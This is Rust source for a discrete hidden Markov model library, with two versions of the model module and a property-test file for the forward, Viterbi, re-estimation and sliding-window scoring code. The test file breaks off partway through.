/// A discrete-observation HMM with `n` hidden states and `m` symbols.
#[derive(Debug, Clone, PartialEq)]
pub struct Hmm {
    /// Number of hidden states.
    n: usize,
    /// Number of observation symbols.
    m: usize,
    /// Transition matrix A, row-major `n × n`:
    /// `a[i * n + j] = P(S_{t+1}=j | S_t=i)`, rows sum to 1.
    a: Vec<f64>,
    /// Emission matrix B, row-major `n × m`:
    /// `b[i * m + k] = P(O_t=k | S_t=i)`, rows sum to 1.
    b: Vec<f64>,
    /// Initial distribution π, sums to 1.
    pub pi: Vec<f64>,
}

/// Errors for malformed models or observations.
#[derive(Debug, Clone, PartialEq)]
pub enum HmmError {
    /// A row/π does not sum to ~1 or has negative entries.
    NotStochastic(String),
    /// Matrix dimensions disagree.
    Shape(String),
    /// An observation symbol is out of range.
    BadSymbol {
        /// Offending symbol.
        symbol: usize,
        /// Alphabet size.
        alphabet: usize,
    },
}

impl std::fmt::Display for HmmError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HmmError::NotStochastic(what) => write!(f, "not stochastic: {what}"),
            HmmError::Shape(what) => write!(f, "shape mismatch: {what}"),
            HmmError::BadSymbol { symbol, alphabet } => {
                write!(f, "symbol {symbol} outside alphabet of size {alphabet}")
            }
        }
    }
}

impl std::error::Error for HmmError {}

impl Hmm {
    /// Number of hidden states N.
    #[inline]
    pub fn n_states(&self) -> usize {
        self.n
    }

    /// Number of observation symbols M.
    #[inline]
    pub fn n_symbols(&self) -> usize {
        self.m
    }

    /// Transition probability `P(S_{t+1}=j | S_t=i)`.
    #[inline]
    pub fn a(&self, i: usize, j: usize) -> f64 {
        self.a[i * self.n + j]
    }

    /// Emission probability `P(O_t=k | S_t=i)`.
    #[inline]
    pub fn b(&self, i: usize, k: usize) -> f64 {
        self.b[i * self.m + k]
    }

    /// Row `i` of A: the outgoing transition distribution of state `i`.
    #[inline]
    pub fn a_row(&self, i: usize) -> &[f64] {
        &self.a[i * self.n..(i + 1) * self.n]
    }

    /// Row `i` of B: the emission distribution of state `i`.
    #[inline]
    pub fn b_row(&self, i: usize) -> &[f64] {
        &self.b[i * self.m..(i + 1) * self.m]
    }

    /// Mutable row `i` of A. Callers must keep the row stochastic (or
    /// renormalize afterwards, e.g. via [`Hmm::smooth`]).
    #[inline]
    pub fn a_row_mut(&mut self, i: usize) -> &mut [f64] {
        &mut self.a[i * self.n..(i + 1) * self.n]
    }

    /// Mutable row `i` of B. Same stochasticity caveat as [`Hmm::a_row_mut`].
    #[inline]
    pub fn b_row_mut(&mut self, i: usize) -> &mut [f64] {
        &mut self.b[i * self.m..(i + 1) * self.m]
    }

    /// All rows of A, in state order.
    pub fn a_rows(&self) -> impl Iterator<Item = &[f64]> {
        (0..self.n).map(|i| self.a_row(i))
    }

    /// All rows of B, in state order.
    pub fn b_rows(&self) -> impl Iterator<Item = &[f64]> {
        (0..self.n).map(|i| self.b_row(i))
    }

    /// B transposed to symbol-major: `out[k * n + j] = b(j, k)`. The
    /// scoring kernels read one emission *column* per event; symbol-major
    /// storage turns those `n` strided loads into one contiguous slice
    /// (`&out[k * n..(k + 1) * n]`), which is what the SoA kernels in
    /// `sparse`/`batch` stream.
    pub fn b_transposed(&self) -> Vec<f64> {
        let (n, m) = (self.n, self.m);
        let mut bt = vec![0.0f64; m * n];
        for (k, chunk) in bt.chunks_exact_mut(n).enumerate() {
            for (j, slot) in chunk.iter_mut().enumerate() {
                *slot = self.b(j, k);
            }
        }
        bt
    }

    /// Builds a model from nested rows, validating shape and stochasticity.
    pub fn new(a: Vec<Vec<f64>>, b: Vec<Vec<f64>>, pi: Vec<f64>) -> Result<Hmm, HmmError> {
        let hmm = Hmm::try_from_rows(a, b, pi)?;
        hmm.validate()?;
        Ok(hmm)
    }

    /// Builds a model from nested rows with shape checks only — for callers
    /// that construct intentionally non-normalized parameters and fix them
    /// up afterwards (e.g. raw count accumulation followed by
    /// [`Hmm::smooth`]). Panics on ragged input; see [`Hmm::try_from_rows`]
    /// for the fallible form.
    pub fn from_rows(a: Vec<Vec<f64>>, b: Vec<Vec<f64>>, pi: Vec<f64>) -> Hmm {
        Hmm::try_from_rows(a, b, pi).expect("consistent HMM dimensions")
    }

    /// Fallible [`Hmm::from_rows`]: shape checks, no stochasticity check.
    pub fn try_from_rows(
        a: Vec<Vec<f64>>,
        b: Vec<Vec<f64>>,
        pi: Vec<f64>,
    ) -> Result<Hmm, HmmError> {
        let n = a.len();
        if b.len() != n || pi.len() != n {
            return Err(HmmError::Shape(format!(
                "A has {n} rows, B has {}, pi has {}",
                b.len(),
                pi.len()
            )));
        }
        let m = b.first().map_or(0, Vec::len);
        let mut a_flat = Vec::with_capacity(n * n);
        for (i, row) in a.into_iter().enumerate() {
            if row.len() != n {
                return Err(HmmError::Shape(format!("A row {i} has {} cols", row.len())));
            }
            a_flat.extend_from_slice(&row);
        }
        let mut b_flat = Vec::with_capacity(n * m);
        for (i, row) in b.into_iter().enumerate() {
            if row.len() != m {
                return Err(HmmError::Shape(format!("B row {i} has {} cols", row.len())));
            }
            b_flat.extend_from_slice(&row);
        }
        Ok(Hmm {
            n,
            m,
            a: a_flat,
            b: b_flat,
            pi,
        })
    }

    /// Checks that every row of A and B and π are probability
    /// distributions.
    pub fn validate(&self) -> Result<(), HmmError> {
        for (i, row) in self.a_rows().enumerate() {
            check_distribution(row, &format!("A row {i}"))?;
        }
        for (i, row) in self.b_rows().enumerate() {
            check_distribution(row, &format!("B row {i}"))?;
        }
        check_distribution(&self.pi, "pi")
    }

    /// Random initialization (the Rand-HMM baseline of §V-D): rows drawn
    /// from a seeded uniform and normalized.
    pub fn random(n: usize, m: usize, seed: u64) -> Hmm {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut fill = |buf: &mut Vec<f64>, width: usize| {
            let start = buf.len();
            buf.extend((0..width).map(|_| rng.gen_range(0.1..1.0)));
            normalize(&mut buf[start..]);
        };
        let mut a = Vec::with_capacity(n * n);
        let mut b = Vec::with_capacity(n * m);
        for _ in 0..n {
            fill(&mut a, n);
            fill(&mut b, m);
        }
        let mut pi = Vec::with_capacity(n);
        fill(&mut pi, n);
        Hmm { n, m, a, b, pi }
    }

    /// Uniform initialization.
    pub fn uniform(n: usize, m: usize) -> Hmm {
        Hmm {
            n,
            m,
            a: vec![1.0 / n as f64; n * n],
            b: vec![1.0 / m as f64; n * m],
            pi: vec![1.0 / n as f64; n],
        }
    }

    /// Validates observation symbols against the alphabet.
    pub fn check_observations(&self, obs: &[usize]) -> Result<(), HmmError> {
        let m = self.m;
        for &o in obs {
            if o >= m {
                return Err(HmmError::BadSymbol {
                    symbol: o,
                    alphabet: m,
                });
            }
        }
        Ok(())
    }

    /// Applies an additive floor to every parameter and renormalizes —
    /// prevents statically-impossible transitions from zeroing the
    /// likelihood of dynamically-possible paths (loops, recursion).
    pub fn smooth(&mut self, floor: f64) {
        let (n, m) = (self.n, self.m);
        let rows = |buf: &mut Vec<f64>, width: usize| {
            if width == 0 {
                return;
            }
            for row in buf.chunks_mut(width) {
                for v in row.iter_mut() {
                    *v += floor;
                }
                normalize(row);
            }
        };
        rows(&mut self.a, n);
        rows(&mut self.b, m);
        for v in self.pi.iter_mut() {
            *v += floor;
        }
        normalize(&mut self.pi);
    }

    /// Flattens sub-`threshold` transition probabilities to a shared
    /// per-row floor (the mean of the flattened set, so each row's sum is
    /// preserved) and returns how many entries were flattened.
    ///
    /// Baum–Welch perturbs every smoothed floor entry by a slightly
    /// different amount of expected-count dust, which destroys the
    /// bit-identical background that [`crate::sparse::SparseTransitions`]
    /// exploits for exact O(nnz) scoring. Profiles flatten once after
    /// training: entries below `threshold` carry no trained signal (they
    /// exist only because of smoothing), and equalizing them restores the
    /// background + deviation structure without touching real transitions.
    /// A zero `threshold` is a no-op.
    pub fn flatten_floor(&mut self, threshold: f64) -> usize {
        if threshold <= 0.0 || self.n == 0 {
            return 0;
        }
        let mut flattened = 0usize;
        let n = self.n;
        for row in self.a.chunks_mut(n) {
            let (mut sum, mut count) = (0.0f64, 0usize);
            for v in row.iter() {
                if *v < threshold {
                    sum += *v;
                    count += 1;
                }
            }
            if count < 2 {
                continue;
            }
            let floor = sum / count as f64;
            for v in row.iter_mut() {
                if *v < threshold {
                    *v = floor;
                }
            }
            flattened += count;
        }
        flattened
    }

    /// Samples an observation sequence of length `len` (used by tests and
    /// synthetic workloads).
    pub fn sample(&self, len: usize, seed: u64) -> Vec<usize> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::with_capacity(len);
        let mut state = sample_index(&self.pi, &mut rng);
        for _ in 0..len {
            out.push(sample_index(self.b_row(state), &mut rng));
            state = sample_index(self.a_row(state), &mut rng);
        }
        out
    }
}

/// JSON keeps the human-readable nested-row layout (`a` and `b` as arrays
/// of rows) independent of the flat in-memory representation, so saved
/// profiles stay diffable and round-trip across storage changes.
impl Serialize for Hmm {
    fn serialize(&self) -> Content {
        let nested = |rows: &mut dyn Iterator<Item = &[f64]>| {
            Content::Seq(
                rows.map(|row| Content::Seq(row.iter().map(|&v| Content::F64(v)).collect()))
                    .collect(),
            )
        };
        Content::Map(vec![
            (Content::Str("a".into()), nested(&mut self.a_rows())),
            (Content::Str("b".into()), nested(&mut self.b_rows())),
            (Content::Str("pi".into()), self.pi.serialize()),
        ])
    }
}

impl Deserialize for Hmm {
    fn deserialize(v: &Content) -> Result<Hmm, DeError> {
        let map = v
            .as_map()
            .ok_or_else(|| DeError(format!("Hmm: expected map, got {}", v.kind())))?;
        let a: Vec<Vec<f64>> = de_field(map, "a")?;
        let b: Vec<Vec<f64>> = de_field(map, "b")?;
        let pi: Vec<f64> = de_field(map, "pi")?;
        Hmm::try_from_rows(a, b, pi).map_err(|e| DeError(format!("Hmm: {e}")))
    }
}

fn sample_index(dist: &[f64], rng: &mut StdRng) -> usize {
    let x: f64 = rng.gen_range(0.0..1.0);
    let mut acc = 0.0;
    for (i, &p) in dist.iter().enumerate() {
        acc += p;
        if x < acc {
            return i;
        }
    }
    dist.len() - 1
}

fn check_distribution(row: &[f64], what: &str) -> Result<(), HmmError> {
    if row.iter().any(|&v| v < 0.0 || !v.is_finite()) {
        return Err(HmmError::NotStochastic(format!("{what} has bad entries")));
    }
    let s: f64 = row.iter().sum();
    if (s - 1.0).abs() > 1e-6 {
        return Err(HmmError::NotStochastic(format!("{what} sums to {s}")));
    }
    Ok(())
}

/// Normalizes a row in place (leaves an all-zero row uniform).
pub fn normalize(row: &mut [f64]) {
    let s: f64 = row.iter().sum();
    if s > 0.0 {
        for v in row.iter_mut() {
            *v /= s;
        }
    } else if !row.is_empty() {
        let u = 1.0 / row.len() as f64;
        for v in row.iter_mut() {
            *v = u;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn random_model_is_stochastic() {
        let hmm = Hmm::random(5, 7, 42);
        hmm.validate().unwrap();
        assert_eq!(hmm.n_states(), 5);
        assert_eq!(hmm.n_symbols(), 7);
    }

    #[test]
    fn random_is_deterministic_per_seed() {
        assert_eq!(Hmm::random(4, 4, 1), Hmm::random(4, 4, 1));
        assert_ne!(Hmm::random(4, 4, 1), Hmm::random(4, 4, 2));
    }

    #[test]
    fn new_rejects_bad_rows() {
        let a = vec![vec![0.5, 0.4], vec![0.5, 0.5]]; // first row sums to .9
        let b = vec![vec![1.0], vec![1.0]];
        let pi = vec![0.5, 0.5];
        assert!(matches!(
            Hmm::new(a, b, pi),
            Err(HmmError::NotStochastic(_))
        ));
    }

    #[test]
    fn from_rows_rejects_ragged_shapes() {
        let a = vec![vec![1.0, 0.0], vec![1.0]]; // ragged A
        let b = vec![vec![1.0], vec![1.0]];
        let pi = vec![0.5, 0.5];
        assert!(matches!(
            Hmm::try_from_rows(a, b, pi),
            Err(HmmError::Shape(_))
        ));
    }

    #[test]
    fn accessors_agree_with_row_major_layout() {
        let hmm = Hmm::new(
            vec![vec![0.7, 0.3], vec![0.4, 0.6]],
            vec![vec![0.9, 0.1, 0.0], vec![0.2, 0.3, 0.5]],
            vec![0.6, 0.4],
        )
        .unwrap();
        assert_eq!(hmm.a(0, 1), 0.3);
        assert_eq!(hmm.a(1, 0), 0.4);
        assert_eq!(hmm.b(1, 2), 0.5);
        assert_eq!(hmm.a_row(1), &[0.4, 0.6]);
        assert_eq!(hmm.b_row(0), &[0.9, 0.1, 0.0]);
        assert_eq!(hmm.a_rows().count(), 2);
        assert_eq!(hmm.b_rows().nth(1).unwrap(), &[0.2, 0.3, 0.5]);
    }

    #[test]
    fn smooth_removes_zeros() {
        let mut hmm = Hmm::from_rows(
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            vec![1.0, 0.0],
        );
        hmm.smooth(1e-3);
        assert!(hmm.a(0, 1) > 0.0);
        assert!((hmm.a_row(0).iter().sum::<f64>() - 1.0).abs() < 1e-12);
        assert!((hmm.pi.iter().sum::<f64>() - 1.0).abs() < 1e-12);
    }

    #[test]
    fn check_observations_bounds() {
        let hmm = Hmm::uniform(2, 3);
        assert!(hmm.check_observations(&[0, 1, 2]).is_ok());
        assert!(hmm.check_observations(&[3]).is_err());
    }

    #[test]
    fn sample_respects_alphabet() {
        let hmm = Hmm::random(3, 5, 7);
        let seq = hmm.sample(100, 9);
        assert_eq!(seq.len(), 100);
        assert!(seq.iter().all(|&o| o < 5));
    }

    #[test]
    fn json_round_trips_with_nested_rows() {
        let hmm = Hmm::random(3, 4, 11);
        let json = serde_json::to_string(&hmm).unwrap();
        // Nested-row layout: `a` opens as an array of arrays.
        assert!(json.contains("\"a\":[["), "json: {json}");
        let back: Hmm = serde_json::from_str(&json).unwrap();
        assert_eq!(back, hmm);
    }
}
