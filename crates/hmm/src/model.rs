//! The hidden Markov model λ = (A, B, π) — §II of the paper.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

/// A discrete-observation HMM with `n` hidden states and `m` symbols.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Hmm {
    /// Transition matrix A: `a[i][j] = P(S_{t+1}=j | S_t=i)`, rows sum to 1.
    pub a: Vec<Vec<f64>>,
    /// Emission matrix B: `b[i][k] = P(O_t=k | S_t=i)`, rows sum to 1.
    pub b: Vec<Vec<f64>>,
    /// Initial distribution π, sums to 1.
    pub pi: Vec<f64>,
}

/// Errors for malformed models or observations.
#[derive(Debug, Clone, PartialEq)]
pub enum HmmError {
    /// A row/π does not sum to ~1 or has negative entries.
    NotStochastic(String),
    /// Matrix dimensions disagree.
    Shape(String),
    /// An observation symbol is out of range.
    BadSymbol {
        /// Offending symbol.
        symbol: usize,
        /// Alphabet size.
        alphabet: usize,
    },
}

impl std::fmt::Display for HmmError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HmmError::NotStochastic(what) => write!(f, "not stochastic: {what}"),
            HmmError::Shape(what) => write!(f, "shape mismatch: {what}"),
            HmmError::BadSymbol { symbol, alphabet } => {
                write!(f, "symbol {symbol} outside alphabet of size {alphabet}")
            }
        }
    }
}

impl std::error::Error for HmmError {}

impl Hmm {
    /// Number of hidden states N.
    pub fn n_states(&self) -> usize {
        self.a.len()
    }

    /// Number of observation symbols M.
    pub fn n_symbols(&self) -> usize {
        self.b.first().map_or(0, Vec::len)
    }

    /// Builds a model from raw parts, validating shape and stochasticity.
    pub fn new(a: Vec<Vec<f64>>, b: Vec<Vec<f64>>, pi: Vec<f64>) -> Result<Hmm, HmmError> {
        let n = a.len();
        if b.len() != n || pi.len() != n {
            return Err(HmmError::Shape(format!(
                "A has {n} rows, B has {}, pi has {}",
                b.len(),
                pi.len()
            )));
        }
        let m = b.first().map_or(0, Vec::len);
        for (i, row) in a.iter().enumerate() {
            if row.len() != n {
                return Err(HmmError::Shape(format!("A row {i} has {} cols", row.len())));
            }
            check_distribution(row, &format!("A row {i}"))?;
        }
        for (i, row) in b.iter().enumerate() {
            if row.len() != m {
                return Err(HmmError::Shape(format!("B row {i} has {} cols", row.len())));
            }
            check_distribution(row, &format!("B row {i}"))?;
        }
        check_distribution(&pi, "pi")?;
        Ok(Hmm { a, b, pi })
    }

    /// Random initialization (the Rand-HMM baseline of §V-D): rows drawn
    /// from a seeded uniform and normalized.
    pub fn random(n: usize, m: usize, seed: u64) -> Hmm {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut row = |len: usize| -> Vec<f64> {
            let mut r: Vec<f64> = (0..len).map(|_| rng.gen_range(0.1..1.0)).collect();
            let s: f64 = r.iter().sum();
            for v in &mut r {
                *v /= s;
            }
            r
        };
        let a = (0..n).map(|_| row(n)).collect();
        let b = (0..n).map(|_| row(m)).collect();
        let pi = row(n);
        Hmm { a, b, pi }
    }

    /// Uniform initialization.
    pub fn uniform(n: usize, m: usize) -> Hmm {
        Hmm {
            a: vec![vec![1.0 / n as f64; n]; n],
            b: vec![vec![1.0 / m as f64; m]; n],
            pi: vec![1.0 / n as f64; n],
        }
    }

    /// Validates observation symbols against the alphabet.
    pub fn check_observations(&self, obs: &[usize]) -> Result<(), HmmError> {
        let m = self.n_symbols();
        for &o in obs {
            if o >= m {
                return Err(HmmError::BadSymbol {
                    symbol: o,
                    alphabet: m,
                });
            }
        }
        Ok(())
    }

    /// Applies an additive floor to every parameter and renormalizes —
    /// prevents statically-impossible transitions from zeroing the
    /// likelihood of dynamically-possible paths (loops, recursion).
    pub fn smooth(&mut self, floor: f64) {
        for row in self.a.iter_mut().chain(self.b.iter_mut()) {
            for v in row.iter_mut() {
                *v += floor;
            }
            normalize(row);
        }
        for v in self.pi.iter_mut() {
            *v += floor;
        }
        normalize(&mut self.pi);
    }

    /// Samples an observation sequence of length `len` (used by tests and
    /// synthetic workloads).
    pub fn sample(&self, len: usize, seed: u64) -> Vec<usize> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::with_capacity(len);
        let mut state = sample_index(&self.pi, &mut rng);
        for _ in 0..len {
            out.push(sample_index(&self.b[state], &mut rng));
            state = sample_index(&self.a[state], &mut rng);
        }
        out
    }
}

fn sample_index(dist: &[f64], rng: &mut StdRng) -> usize {
    let x: f64 = rng.gen_range(0.0..1.0);
    let mut acc = 0.0;
    for (i, &p) in dist.iter().enumerate() {
        acc += p;
        if x < acc {
            return i;
        }
    }
    dist.len() - 1
}

fn check_distribution(row: &[f64], what: &str) -> Result<(), HmmError> {
    if row.iter().any(|&v| v < 0.0 || !v.is_finite()) {
        return Err(HmmError::NotStochastic(format!("{what} has bad entries")));
    }
    let s: f64 = row.iter().sum();
    if (s - 1.0).abs() > 1e-6 {
        return Err(HmmError::NotStochastic(format!("{what} sums to {s}")));
    }
    Ok(())
}

/// Normalizes a row in place (leaves an all-zero row uniform).
pub fn normalize(row: &mut [f64]) {
    let s: f64 = row.iter().sum();
    if s > 0.0 {
        for v in row.iter_mut() {
            *v /= s;
        }
    } else if !row.is_empty() {
        let u = 1.0 / row.len() as f64;
        for v in row.iter_mut() {
            *v = u;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn random_model_is_stochastic() {
        let hmm = Hmm::random(5, 7, 42);
        Hmm::new(hmm.a.clone(), hmm.b.clone(), hmm.pi.clone()).unwrap();
        assert_eq!(hmm.n_states(), 5);
        assert_eq!(hmm.n_symbols(), 7);
    }

    #[test]
    fn random_is_deterministic_per_seed() {
        assert_eq!(Hmm::random(4, 4, 1), Hmm::random(4, 4, 1));
        assert_ne!(Hmm::random(4, 4, 1), Hmm::random(4, 4, 2));
    }

    #[test]
    fn new_rejects_bad_rows() {
        let a = vec![vec![0.5, 0.4], vec![0.5, 0.5]]; // first row sums to .9
        let b = vec![vec![1.0], vec![1.0]];
        let pi = vec![0.5, 0.5];
        assert!(matches!(
            Hmm::new(a, b, pi),
            Err(HmmError::NotStochastic(_))
        ));
    }

    #[test]
    fn smooth_removes_zeros() {
        let mut hmm = Hmm {
            a: vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            b: vec![vec![1.0, 0.0], vec![0.0, 1.0]],
            pi: vec![1.0, 0.0],
        };
        hmm.smooth(1e-3);
        assert!(hmm.a[0][1] > 0.0);
        assert!((hmm.a[0].iter().sum::<f64>() - 1.0).abs() < 1e-12);
        assert!((hmm.pi.iter().sum::<f64>() - 1.0).abs() < 1e-12);
    }

    #[test]
    fn check_observations_bounds() {
        let hmm = Hmm::uniform(2, 3);
        assert!(hmm.check_observations(&[0, 1, 2]).is_ok());
        assert!(hmm.check_observations(&[3]).is_err());
    }

    #[test]
    fn sample_respects_alphabet() {
        let hmm = Hmm::random(3, 5, 7);
        let seq = hmm.sample(100, 9);
        assert_eq!(seq.len(), 100);
        assert!(seq.iter().all(|&o| o < 5));
    }
}
