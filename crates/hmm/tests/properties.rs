//! Property tests: the scaled forward algorithm against brute-force
//! enumeration, and distributional invariants of training.

use adprom_hmm::{
    backward, forward, forward_beam, forward_sparse, log_likelihood, log_likelihood_sparse,
    reestimate, reestimate_with_config, scan_scores, train, viterbi, viterbi_sparse, BeamConfig,
    Hmm, SlidingForward, SparseConfig, SparseTransitions, TrainConfig,
};
use proptest::prelude::*;

/// An arbitrary small stochastic model.
fn arb_hmm(max_n: usize, max_m: usize) -> impl Strategy<Value = Hmm> {
    (1..=max_n, 1..=max_m, any::<u64>()).prop_map(|(n, m, seed)| Hmm::random(n, m, seed))
}

/// Uniform distribution over the `true` entries of `mask`; a one-hot row
/// at `fallback` when the mask is empty (rows must stay stochastic).
fn uniform_over(mask: &[bool], fallback: usize) -> Vec<f64> {
    let support = mask.iter().filter(|&&x| x).count();
    if support == 0 {
        let mut row = vec![0.0; mask.len()];
        row[fallback] = 1.0;
        return row;
    }
    mask.iter()
        .map(|&x| if x { 1.0 / support as f64 } else { 0.0 })
        .collect()
}

/// A model full of structural zeros: every transition and emission row is
/// uniform over a random support set. These models routinely assign zero
/// probability to sampled-from-elsewhere event streams, which is exactly
/// what exercises the sliding scorer's re-anchor fallback.
fn arb_sparse_hmm(n: usize, m: usize) -> impl Strategy<Value = Hmm> {
    let trans = prop::collection::vec(prop::collection::vec(any::<bool>(), n..n + 1), n..n + 1);
    let emit = prop::collection::vec(prop::collection::vec(any::<bool>(), m..m + 1), n..n + 1);
    (trans, emit).prop_map(move |(tmask, emask)| {
        let a: Vec<Vec<f64>> = tmask
            .iter()
            .enumerate()
            .map(|(i, row)| uniform_over(row, i))
            .collect();
        let b: Vec<Vec<f64>> = emask
            .iter()
            .enumerate()
            .map(|(i, row)| uniform_over(row, i % m))
            .collect();
        let pi = vec![1.0 / n as f64; n];
        Hmm::new(a, b, pi).expect("rows are stochastic by construction")
    })
}

/// Brute-force P(O | λ) by summing over all state paths.
fn enumerate_likelihood(hmm: &Hmm, obs: &[usize]) -> f64 {
    let n = hmm.n_states();
    let t_len = obs.len();
    if t_len == 0 {
        return 1.0;
    }
    let mut total = 0.0;
    let paths = n.pow(t_len as u32);
    for code in 0..paths {
        let mut c = code;
        let mut path = Vec::with_capacity(t_len);
        for _ in 0..t_len {
            path.push(c % n);
            c /= n;
        }
        let mut p = hmm.pi[path[0]] * hmm.b(path[0], obs[0]);
        for t in 1..t_len {
            p *= hmm.a(path[t - 1], path[t]) * hmm.b(path[t], obs[t]);
        }
        total += p;
    }
    total
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// forward() must agree with full path enumeration on small models.
    #[test]
    fn forward_matches_enumeration(hmm in arb_hmm(3, 3), seed in any::<u64>(),
                                   len in 1usize..6) {
        let obs = hmm.sample(len, seed);
        let exact = enumerate_likelihood(&hmm, &obs);
        let ll = log_likelihood(&hmm, &obs);
        prop_assert!((ll - exact.ln()).abs() < 1e-9,
            "forward {ll} vs enumeration {}", exact.ln());
    }

    /// The Viterbi path probability never exceeds the total likelihood and
    /// equals the max over enumerated paths.
    #[test]
    fn viterbi_is_argmax(hmm in arb_hmm(3, 3), seed in any::<u64>(), len in 1usize..5) {
        let obs = hmm.sample(len, seed);
        let (_, best_lp) = viterbi(&hmm, &obs);
        // Enumerate for the max path probability.
        let n = hmm.n_states();
        let mut best = f64::NEG_INFINITY;
        for code in 0..n.pow(len as u32) {
            let mut c = code;
            let mut path = Vec::with_capacity(len);
            for _ in 0..len {
                path.push(c % n);
                c /= n;
            }
            let mut p = (hmm.pi[path[0]] * hmm.b(path[0], obs[0])).ln();
            for t in 1..len {
                p += (hmm.a(path[t - 1], path[t]) * hmm.b(path[t], obs[t])).ln();
            }
            best = best.max(p);
        }
        prop_assert!((best_lp - best).abs() < 1e-9, "{best_lp} vs {best}");
    }

    /// Forward-backward posterior sums to 1 at every step.
    #[test]
    #[allow(clippy::needless_range_loop)]
    fn posteriors_normalize(hmm in arb_hmm(4, 4), seed in any::<u64>(), len in 1usize..12) {
        let obs = hmm.sample(len, seed);
        let fp = forward(&hmm, &obs);
        prop_assume!(fp.log_likelihood.is_finite());
        let beta = backward(&hmm, &obs, &fp.scale);
        for t in 0..len {
            let mut gamma: Vec<f64> = (0..hmm.n_states())
                .map(|i| fp.alpha[t][i] * beta[t][i])
                .collect();
            let s: f64 = gamma.iter().sum();
            prop_assert!(s > 0.0);
            for g in &mut gamma {
                *g /= s;
            }
            let total: f64 = gamma.iter().sum();
            prop_assert!((total - 1.0).abs() < 1e-9);
        }
    }

    /// One re-estimation step keeps the model stochastic and never lowers
    /// the training-set likelihood (the EM guarantee), up to numerical
    /// noise from smoothing.
    #[test]
    fn reestimation_is_monotone(n in 1usize..4, model_seed in any::<u64>(),
                                seed in any::<u64>()) {
        // Model and teacher must share the alphabet (m = 4) so sampled
        // symbols are always in range for the trainee.
        let hmm = Hmm::random(n, 4, model_seed);
        let teacher = Hmm::random(3, 4, seed ^ 0xFEED);
        let data: Vec<Vec<usize>> = (0..20).map(|i| teacher.sample(12, seed ^ i)).collect();
        let mut model = hmm;
        let before: f64 = data.iter().map(|o| log_likelihood(&model, o)).sum();
        prop_assume!(before.is_finite());
        reestimate(&mut model, &data, 0.0);
        model.validate().expect("stochastic");
        let after: f64 = data.iter().map(|o| log_likelihood(&model, o)).sum();
        prop_assert!(after >= before - 1e-6, "EM decreased likelihood: {before} -> {after}");
    }

    /// The incremental sliding-window score matches a full forward()
    /// recompute via the prefix-difference identity, anchored at the
    /// scorer's own re-anchor point so the check is exact even for
    /// unsmoothed models that hit the impossible-prefix fallback.
    #[test]
    fn sliding_forward_matches_full_recompute(
        hmm in arb_hmm(5, 5), seed in any::<u64>(),
        len in 1usize..60, window in 1usize..20,
    ) {
        let obs = hmm.sample(len, seed);
        let mut sliding = SlidingForward::new(&hmm, window);
        for (t, &symbol) in obs.iter().enumerate() {
            let score = sliding.push(symbol);
            let start = (t + 1).saturating_sub(window);
            let anchor = sliding.anchor();
            // Window score == ll(obs[anchor..=t]) − ll(obs[anchor..start])
            // by telescoping; for smoothed/no-zero models anchor == 0 and
            // this is exactly the π-anchored prefix difference.
            let head = log_likelihood(&hmm, &obs[anchor..=t]);
            let tail = if start > anchor {
                log_likelihood(&hmm, &obs[anchor..start])
            } else {
                0.0
            };
            let expected = head - tail;
            if expected.is_finite() {
                prop_assert!(
                    (score - expected).abs() < 1e-9,
                    "t={t} anchor={anchor}: incremental {score} vs recompute {expected}"
                );
            } else {
                prop_assert!(score == f64::NEG_INFINITY || !sliding_window_covers_anchor(anchor, start),
                    "t={t}: recompute -inf but incremental {score}");
            }
        }
    }

    /// `SlidingForward::stats()` re-anchor accounting: the counter equals
    /// the number of exact recomputes (restarts from π) actually
    /// performed, counted independently by replaying the stream with
    /// fresh full forward() passes. Sparse models + uniform random event
    /// streams force zero-probability prefixes constantly.
    #[test]
    fn sliding_stats_count_exact_recomputes(
        hmm in arb_sparse_hmm(3, 4),
        obs in prop::collection::vec(0usize..4, 1..48),
        window in 1usize..8,
    ) {
        let mut sliding = SlidingForward::new(&hmm, window);
        let mut expected_reanchors = 0u64;
        let mut anchor = 0usize;
        let mut dead = true;
        for (t, &symbol) in obs.iter().enumerate() {
            // Oracle: an exact recompute happens whenever the live chain
            // assigns this event zero probability — decided with a full
            // forward pass from the current anchor, never by peeking at
            // the incremental scorer's internals.
            let chain_continues = !dead && log_likelihood(&hmm, &obs[anchor..=t]).is_finite();
            if !chain_continues {
                if t > 0 {
                    expected_reanchors += 1;
                }
                anchor = t;
                dead = !log_likelihood(&hmm, &obs[t..=t]).is_finite();
            }
            sliding.push(symbol);
            prop_assert_eq!(sliding.anchor(), anchor, "anchor diverged at t={}", t);
            prop_assert_eq!(
                sliding.stats().reanchors, expected_reanchors,
                "re-anchor count diverged at t={}: scorer {} vs oracle {}",
                t, sliding.stats().reanchors, expected_reanchors
            );
        }
        prop_assert_eq!(sliding.stats().pushes, obs.len() as u64);
        sliding.reset();
        prop_assert_eq!(sliding.stats(), adprom_hmm::SlidingStats::default());
    }

    /// Smoothed (zero-free) models never take the fallback: re-anchor
    /// count stays 0 however long the stream runs.
    #[test]
    fn smoothed_models_never_reanchor(
        hmm in arb_hmm(4, 5), seed in any::<u64>(), len in 1usize..80,
    ) {
        let mut smoothed = hmm;
        smoothed.smooth(1e-4);
        let obs = smoothed.sample(len, seed);
        let mut sliding = SlidingForward::new(&smoothed, 6);
        for &symbol in &obs {
            sliding.push(symbol);
        }
        prop_assert_eq!(sliding.stats().reanchors, 0u64);
        prop_assert_eq!(sliding.stats().pushes, len as u64);
    }

    /// scan_scores emits one score per sliding window (the scan contract)
    /// and each equals the conditional prefix difference computed by two
    /// full forward() passes on smoothed (zero-free, never re-anchoring)
    /// models.
    #[test]
    fn scan_scores_matches_prefix_differences(
        n in 1usize..5, m in 1usize..5, model_seed in any::<u64>(),
